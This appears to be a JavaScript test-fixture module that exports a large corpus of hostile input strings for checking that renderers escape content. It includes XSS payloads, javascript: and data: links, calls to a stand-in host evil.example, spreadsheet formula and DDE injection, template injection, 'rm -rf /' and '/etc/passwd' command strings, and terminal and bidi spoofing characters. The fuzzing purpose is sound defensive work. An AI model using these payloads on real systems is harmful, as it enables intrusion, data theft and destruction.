// Texts that somebody wrote to do harm, or that went wrong: what pages, pictures, tables, calendars,
// diagrams and terminals can be broken out of. A script that runs sets window.hit or opens a dialog.
'use strict';

const run = 'window.hit=1;alert(1)';
const scripts = [`<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script\n>${run}</script\n>`,
	`<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>${run}//<</script>`,
	`<script src=https://evil.example/x.js></script>`, `<script src=//evil.example></script>`,
	`<script type=module>${run}</script>`, `</script><script>${run}</script>`,
	`</title><script>${run}</script>`, `</style><script>${run}</script>`,
	`</textarea><script>${run}</script>`, `</noscript><script>${run}</script>`,
	`</template><script>${run}</script>`, `</select><script>${run}</script>`,
	`"><script>${run}</script>`, `'><script>${run}</script>`, `\`><script>${run}</script>`,
	`--><script>${run}</script>`, `--!><script>${run}</script>`, `]]><script>${run}</script>`,
	`?><script>${run}</script>`, `*/</style><script>${run}</script>`, `;//</script><script>${run}</script>`,
	`\u2028<script>${run}</script>`, `<script>${run}`, `<plaintext>`, `<xmp><script>${run}</script></xmp>`];
const handlers = [`<img src=x onerror=${run}>`, `<img src=x onerror="${run}"//`, `<IMG """><img src=x onerror=${run}>`,
	`<img/src=x/onerror=${run}>`, `<img src="x\`onerror=${run}">`, `<img src=https://evil.example/p.png>`,
	`<img srcset="https://evil.example/p.png 1x">`, `<svg onload=${run}>`, `<svg/onload=${run}>`,
	`<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/>`,
	`<svg><foreignObject><body onload=${run}></foreignObject>`, `<svg><set attributeName=onload to=${run}>`,
	`<math><mtext></mtext><script>${run}</script></math>`, `<math href="javascript:${run}">x</math>`,
	`<body onload=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
	`<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}>`,
	`<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<iframe src="javascript:${run}">`,
	`<iframe srcdoc="<script>parent.${run}</script>">`, `<object data="javascript:${run}">`,
	`<embed src="javascript:${run}">`, `<form action="javascript:${run}"><input type=submit autofocus>`,
	`<isindex action=javascript:${run}>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<link rel=prefetch href=https://evil.example/>`, `<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<style>@import "https://evil.example/x.css";</style>`,
	`<div style="background:url(https://evil.example/x)">`, `<div style="width:expression(${run})">`,
	`<a href="javascript:${run}">x</a>`, `<a href=" &#14; javascript:${run}">x</a>`, `<b onmouseover=${run}>x</b>`,
	`<x contenteditable onblur=${run}>y</x>`, `<table background="https://evil.example/x">`, `<dialog open onclose=${run}>`];
const attributes = [`" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`,
	`' autofocus onfocus='${run}' x='`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`,
	`" style="background:url(https://evil.example)`, `"/><svg onload=${run}>`, `x" id="x" class="`, `"`, `'`, '`', `\\"`, `&quot; onload=&quot;${run}`];
const links = [`javascript:${run}`, `JaVaScRiPt:${run}`, `java\nscript:${run}`, `java\tscript:${run}`,
	`&#106;avascript:${run}`, `javascript&colon;${run}`, `vbscript:msgbox(1)`, `data:text/html,<script>${run}</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `[x](javascript:${run})`, `[x](JAVASCRIPT:${run})`,
	`[x](  javascript:${run})`, `[x](java&#115;cript:${run})`, `[x](data:text/html,<script>${run}</script>)`,
	`[x](vbscript:x)`, `[x](file:///etc/passwd)`, `![x](https://evil.example/p.png)`, `![x](javascript:${run})`,
	`![x](x "onerror=${run}")`, `[![x](https://evil.example/p.png)](https://evil.example)`,
	`<javascript:${run}>`, `<https://example.org/"onmouseover=${run}>`, `[x]: javascript:${run}\n[x]`,
	`[x][y]\n\n[y]: <javascript:${run}>`, `[x](<javascript:${run}>)`, `[a](https://example.org "\\" onclick=${run} x=")`,
	`https://example.org/"><script>${run}</script>`, `https://example.org/' onclick='${run}`,
	`http://example.org/?a=1&copy=2&lt;`, `mailto:a@example.org?subject="><script>${run}</script>`,
	`www.example.org/<svg onload=${run}>`, `//evil.example/x`, `\\\\evil.example\\share`];
const markup = [`<!-- comment`, `<!-->`, `<!--><script>${run}</script>-->`, `--> x <!--`, `<![CDATA[ x ]]>`,
	`<![CDATA[<script>${run}</script>]]>`, `]]>`, `<!DOCTYPE html [<!ENTITY x "y">]>&x;`, `<?xml-stylesheet href="https://evil.example"?>`,
	`<?php system("id") ?>`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;b&amp;gt;`, `&#60;script&#62;${run}`, `&#x3c;script&#x3e;`,
	`&copy; &nbsp; &AMP &lt`, `&`, `<`, `>`, `< b >`, `</p></div></main></body></html>`, `</svg></title></desc>`,
	`</table></td></tr>`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `\u02bascript\u02b9`, `+ADw-script+AD4-${run}`,
	`%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`, `\\x3cscript\\x3e`, `<scr\u0130pt>`, `<\u017fcript>${run}</\u017fcript>`];
const templates = ['{{7*7}}', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{7*7}', '<%= 7*7 %>', '{%raw%}{{x}}{%endraw%}',
	'{{=<% %>=}}', '[[${7*7}]]', '@{7*7}', '{php}echo 1;{/php}', '$(id)', '`id`', '; rm -rf /', '| cat /etc/passwd', '%s%n%x', '%d{0}{1}{n}', '../../etc/passwd', 'a\\nb', '{0}', '{n}'];
const markdown = ['# heading', '## heading', 'x\n===', 'x\n---', '- item', '* item', '+ item', '1. item', '1) item', '> quote', '    code',
	'\tcode', '```js\nalert(1)\n```', '~~~\nx', '`code`', '``', '**bold** _it_ ~~gone~~', '| a | b |\n|---|---|\n| c | d |', 'a | b', '|', '\\|', '\\',
	'trailing\\', 'two  \nlines', '---', '***', '___', '[ ] task', '[x] task', '[^1] [^1]: note', ':smile: @user #1 GH-1', '$x^2$ $$y$$', '<details><summary>x</summary>',
	'<kbd>x</kbd>', '<sub>x', '[toc]', '!!! note', ':::warning\nx\n:::', '---\ntitle: x\n---', '```mermaid\ngraph TD\n```'];
const mermaid = ['"]; click n1 "javascript:alert(1)"', '%%{init: {"securityLevel": "loose"}}%%', '%% comment', 'end', 'subgraph x', ']] --> n1', '"] --> n2["', 'a:::b',
	'@{ shape: x }', 'section x', ':done, b9, 2020-01-01, 1d', 'click b1 call alert()', '#35;', '#quot;', '; n1 --> n2', '---\nconfig:\n  securityLevel: loose\n---',
	'\\N \\G \\L', '"]; n1 -> n2; n3 [label="', '<<b>html</b>>', '//', 'accTitle: x'];
const formulas = ['=1+1', '=HYPERLINK("https://evil.example","x")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)', '\t=1+1',
	'=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")', '"=1+1', '",=1+1', '";=1+1;"', 'a,b;c\td', 'a"b""c', '\'=1+1', '\n=1+1', 'DDE("cmd";"/C calc";"x")', '%0A=1+1', '\uff1d1+1'];
const calendar = ['x\nBEGIN:VEVENT', 'x\\nEND:VCALENDAR', 'x\nATTACH:https://evil.example', 'a;b,c:d\\e', 'DTSTART:20200101', '\\', '::error::x', '::set-output name=x::y', '%0A::error::x', 'x\n::warning::y'];
const terminal = ['\u009b31mred', '\u009d0;title\u009c', '\u0090q\u009c', '\u0085next', 'a\u00adb', '\\e[31mred', '^[[31mred', '\\033]0;x\\007', '\u202egpj.exe', '\u202dx\u202c',
	'\u2066x\u2069', '\u2067\u2068x', '\u200b\u200c\u200d', '\ufeffbom', '\u2028line\u2029paragraph', '\u061cx', '\u200e\u200fx', '\u{e0041}\u{e0042}tag', '\ufffe\uffff', '\ufdd0',
	'e' + '\u0301'.repeat(60), '\u05e2\u05d1\u05e8\u05d9\u05ea <b>', '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 & "x"', '\u65e5\u672c\u8a9e', '\u{1f600}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u{1f1f8}\u{1f1ea}', 'x'.repeat(3000), 'word '.repeat(800), '\u00a0\u2003\u3000x', 'NULL', 'undefined', 'true', '0', '-', '~', '!', 'null\\0x', 'I\u0307\u0131'];

module.exports = [...new Set([...scripts, ...handlers, ...attributes, ...links, ...markup, ...templates, ...markdown,
	...mermaid, ...formulas, ...calendar, ...terminal])];
